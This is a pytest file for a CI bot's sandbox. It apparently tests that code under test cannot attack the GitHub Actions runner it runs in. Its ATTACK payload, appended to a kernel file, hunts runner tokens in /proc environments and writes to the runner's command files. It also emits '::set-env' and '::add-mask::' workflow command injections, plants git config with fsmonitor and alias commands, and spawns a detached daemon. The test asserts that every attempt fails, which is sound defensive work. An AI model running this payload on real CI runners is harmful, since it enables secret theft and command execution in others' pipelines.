"""The sixth of the ten ways: code under test that attacks the runner's job from inside its lane.

The wrapper, the bot and its sandbox are the real ones; beside them stand what a job of GitHub has:
files that the runner reads afterwards, and a process of the runner with its tokens.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from bot.change import Repository
from bot.check import Request, analyse
from bot.github.order import Order
from tests.conftest import L2NORM, ROOT, Workbench
from tests.runner.conftest import UID, Host

KERNEL = "fla/modules/l2norm.py"
BOOKS = ROOT / "tests/github/repository"
LANE = "interpret:cpu"
SECRETS = {
    "ACTIONS_RUNTIME_TOKEN": "runtime-secret-1",
    "ACTIONS_ID_TOKEN_REQUEST_TOKEN": "id-secret-2",
    "GITHUB_TOKEN": "ghs_secret3",
}
COMMANDS = ("GITHUB_ENV", "GITHUB_PATH", "GITHUB_OUTPUT", "GITHUB_STATE", "GITHUB_STEP_SUMMARY")
MARK = "fla-bot-hostile-daemon"
# Appended to the kernel's file, so it runs when the worker imports it. `{places}` is more than a
# worker could know: where everything is.
ATTACK = """
import glob as _glob, json as _json, os as _os, sys as _sys, time as _time

_places = _json.loads({places!r})

def _try(name, attempt):
    try:
        if attempt():
            print("GAINED", name, flush=True)
    except BaseException as error:
        print("refused", name, type(error).__name__, flush=True)

def _write(path, text):
    _os.makedirs(_os.path.dirname(path), exist_ok=True)
    with open(path, "a") as file:
        file.write(text)
    return not path.startswith(_os.environ["HOME"])

def _hunt():
    found = ["=".join(item) for item in _os.environ.items()]
    for path in _glob.glob("/proc/[0-9]*/environ"):
        try:
            found.append(open(path, errors="replace").read())
        except OSError:
            pass
    return any(secret in text for text in found for secret in _places["secrets"])

def _roots():
    yield ""
    yield from _glob.glob("/proc/[0-9]*/root")
    yield from _glob.glob("/proc/[0-9]*/cwd/..")

def _everywhere(path, text):
    gained = False
    for root in _roots():
        try:
            if _os.path.isdir(_os.path.dirname(root + path)):
                gained |= _write(root + path, text)
        except OSError:
            pass
    return gained

for _name, _path in _places["commands"].items():
    _try(_name + " is told", lambda: _name in _os.environ)
    _try(_name, lambda: _everywhere(_path, "GOT=CHA\\n"))
for _line in ("::set-env name=PATH::/evil", "::add-mask::a", "::error::mine", "##[error]mine",
              "::stop-commands::x", "::add-path::/evil"):
    print(_line, flush=True)
    print(_line, file=_sys.stderr, flush=True)
_try("a token", _hunt)
for _path in _places["artifacts"]:
    _try("artifact", lambda: _everywhere(_path, _places["forged"]))
_config = "[core]\\nfsmonitor = touch {ran}\\nhooksPath = /tmp\\n[alias]\\nfetch = !touch {ran}\\n"
for _path in _places["git"]:
    _try("git " + _path, lambda: _everywhere(_path, _config))
_try("tree", lambda: _write(_os.getcwd() + "/.git/config", _config))
_try("module", lambda: _write(_os.path.dirname(__file__) + "/../../.git/config", _config))
if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        _sleep = "import time; time.sleep(600)"
        _os.execv(_sys.executable, [_sys.executable, "-c", _sleep, "{mark}"])
    _os._exit(0)
print("all was tried", flush=True)
"""


@dataclass
class Job:
    """A job of GitHub on a host: its files, its runner's process, and a hostile head."""

    host: Host
    plan: str
    files: dict[str, Path]
    ran: Path
    bench: Workbench


def processes(mark: str) -> list[str]:
    """Commands with a word in them, whoever runs them."""
    found = []
    for path in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            words = path.read_bytes().decode(errors="replace").split("\0")
        except OSError:
            continue
        if mark in words:
            found.append(f"{path.parent.name} {words}")
    return found


@pytest.fixture
def job(host: Host, workbench: Workbench) -> Iterator[Job]:
    """Everything in place; only the wrapper has not started yet."""
    temp = host.prefix / "home/_work/_temp/_runner_file_commands"
    temp.mkdir(parents=True)
    files = {name: temp / name.lower() for name in COMMANDS}
    for path in files.values():
        path.touch()
        path.chmod(0o666)  # whoever sees it may write it
    run = host.prefix / "run/fla-bot/nobody"
    ran = host.prefix / "ran"
    names = ("correctness-sm90-l2norm.json", "interpret-cpu-l2norm.json", "interpret:cpu.json")
    places = {
        "commands": {name: str(path) for name, path in files.items()},
        "secrets": [*SECRETS.values()],
        "artifacts": [
            f"{folder}/{name}" for name in names for folder in (run / "out", host.spool / "out")
        ],
        "forged": "{}",
        "git": [f"{run}/repo.git/config", f"{host.work}/.git/config", "/tree/.git/config"],
    }
    start = {name: (ROOT / name).read_bytes() for name in L2NORM}
    start |= {f"contracts/{path.name}": path.read_bytes() for path in BOOKS.glob("*.yaml")}
    workbench.commit(dict(start))
    code = ATTACK.format(places=json.dumps(places), ran=ran, mark=MARK)
    workbench.commit({KERNEL: f"{(ROOT / KERNEL).read_text()}\n{code}"}, branch="hostile")
    workbench.git("update-ref", "refs/fla-bot/head", "hostile")
    bundle = host.prefix / "objects.bundle"
    workbench.git("bundle", "create", "--quiet", str(bundle), "main", "refs/fla-bot/head")
    with Repository(workbench.path) as repository:
        plan = analyse(repository, Request("main", "hostile")).plan
    host.hand_over(Order(lane=LANE, plan=plan).model_dump_json(), bundle)
    tool = Path(sys.executable).with_name("fla-bot")
    (host.prefix / "opt/fla-bot/current/bin/fla-bot").write_text(f'#!/bin/sh\nexec {tool} "$@"\n')
    host.set(limit_s="300")
    runner = subprocess.Popen(
        ["setpriv", f"--reuid={UID}", f"--regid={UID}", "--clear-groups", "sleep", "600"],
        env={"PATH": os.environ["PATH"], **SECRETS},
    )
    with runner:
        yield Job(host, plan.hash, files, ran, workbench)
        runner.kill()


def test_worker_gets_nothing_of_the_job_that_it_runs_in(job: Job) -> None:
    host = job.host
    variables = {**SECRETS, **{name: str(path) for name, path in job.files.items()}}
    ended = host.lane(plan=job.plan, timeout_s=300, **variables)
    assert ended.status == 0, ended
    log = (host.prefix / "run/fla-bot/nobody/out/logs/interpret-cpu-l2norm.head.log").read_text()
    assert "all was tried" in log
    assert "::add-mask::" in log  # as data, in a file that the runner never reads
    assert "GAINED" not in log
    # The runner's files, and what it would have read from the step's output.
    assert {name: path.read_text() for name, path in job.files.items()} == dict.fromkeys(
        COMMANDS, ""
    )
    assert "::" not in ended.out + ended.err
    assert "##[" not in ended.out + ended.err
    assert not any(secret in ended.out + ended.err + log for secret in SECRETS.values())
    # What is published: the lane's own evidence, and it is judged as what it is.
    folder = host.spool / "out" / job.plan
    assert [path.name for path in folder.iterdir()] == ["interpret-cpu-l2norm.json"]
    assert processes(MARK) == []
    # No configuration was planted, and none was obeyed.
    assert not job.ran.exists()
    assert not list(host.work.rglob("config"))
    config = (host.prefix / "run/fla-bot/nobody/repo.git/config").read_text()
    assert "fsmonitor" not in config
